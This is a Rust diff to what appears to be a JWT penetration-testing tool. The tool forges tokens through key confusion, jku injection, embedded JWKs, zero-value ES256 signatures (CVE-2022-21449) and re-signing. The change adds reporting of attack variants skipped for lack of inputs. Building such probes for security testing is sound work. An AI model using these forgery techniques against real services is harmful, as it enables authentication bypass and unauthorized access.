@@ -58,7 +58,36 @@ pub struct Variant {
     pub extra: Option<String>,
 }
 
-/// Every variant the options allow. Variants that need a missing option are skipped.
+/// A variant the options left out, and what it would need: a probe lists these, so that
+/// "nothing accepted" never covers an attack that was not sent.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Skipped {
+    pub attack: &'static str,
+    pub needs: &'static str,
+}
+
+/// What the optional variants need, in the words their errors use.
+const NEEDS: &[(&str, &str)] = &[
+    ("key-confusion", "the server's public key PEM"),
+    ("jku", "a jku URL you control"),
+    ("resign", "the HMAC secret"),
+];
+
+/// The variants `opts` leave out.
+pub fn skipped(opts: &ForgeOptions) -> Vec<Skipped> {
+    NEEDS
+        .iter()
+        .filter(|(attack, _)| match *attack {
+            "key-confusion" => opts.public_key_pem.is_none(),
+            "jku" => opts.jku_url.is_none(),
+            _ => opts.secret.is_none(),
+        })
+        .map(|&(attack, needs)| Skipped { attack, needs })
+        .collect()
+}
+
+/// Every variant the options allow. Variants that need a missing option are skipped (see
+/// [`skipped`]).
 pub fn forge(decoded: &Decoded, opts: &ForgeOptions) -> Result<Vec<Variant>> {
     let parts = Parts::new(decoded, opts)?;
     // One fresh key pair serves both embedded-jwk and jku.
@@ -164,7 +193,13 @@ fn make(
     opts: &ForgeOptions,
     pair: &mut Option<KeyPair>,
 ) -> Result<Variant> {
-    let need = |what: &str| JwtError::Forge(name.into(), format!("needs {what}"));
+    let need = || {
+        let what = NEEDS
+            .iter()
+            .find(|(a, _)| *a == name)
+            .map_or("", |(_, n)| *n);
+        JwtError::Forge(name.into(), format!("needs {what}"))
+    };
     let variant = |token: String, explanation: String| Variant {
         attack: name,
         token,
@@ -201,7 +236,7 @@ fn make(
             )
         }
         "key-confusion" => {
-            let pem = opts.public_key_pem.as_deref().ok_or_else(|| need("the server's public key PEM"))?;
+            let pem = opts.public_key_pem.as_deref().ok_or_else(need)?;
             let alg = p.hs_alg();
             variant(
                 p.hmac_token(alg, p.header_with(&[("alg", json!(alg))], &[]), pem.as_bytes())?,
@@ -219,7 +254,7 @@ fn make(
             )
         }
         "jku" => {
-            let url = opts.jku_url.as_deref().ok_or_else(|| need("a jku URL you control"))?;
+            let url = opts.jku_url.as_deref().ok_or_else(need)?;
             let kp = keypair(pair, &p.alg)?;
             let jwk = bare_jwk(&kp.public_jwk, Some(FORGED_KID));
             let mut h = strip(&p.header, &["jwk", "x5u", "x5c"]);
@@ -241,7 +276,7 @@ fn make(
             "ES256 with r = s = 0: accepted by Java 15-18 ECDSA verifiers (CVE-2022-21449) for any key.".into(),
         ),
         "resign" => {
-            let secret = opts.secret.as_deref().ok_or_else(|| need("the HMAC secret"))?;
+            let secret = opts.secret.as_deref().ok_or_else(need)?;
             let alg = p.hs_alg();
             variant(
                 p.hmac_token(alg, p.header_with(&[("alg", json!(alg))], &[]), secret)?,
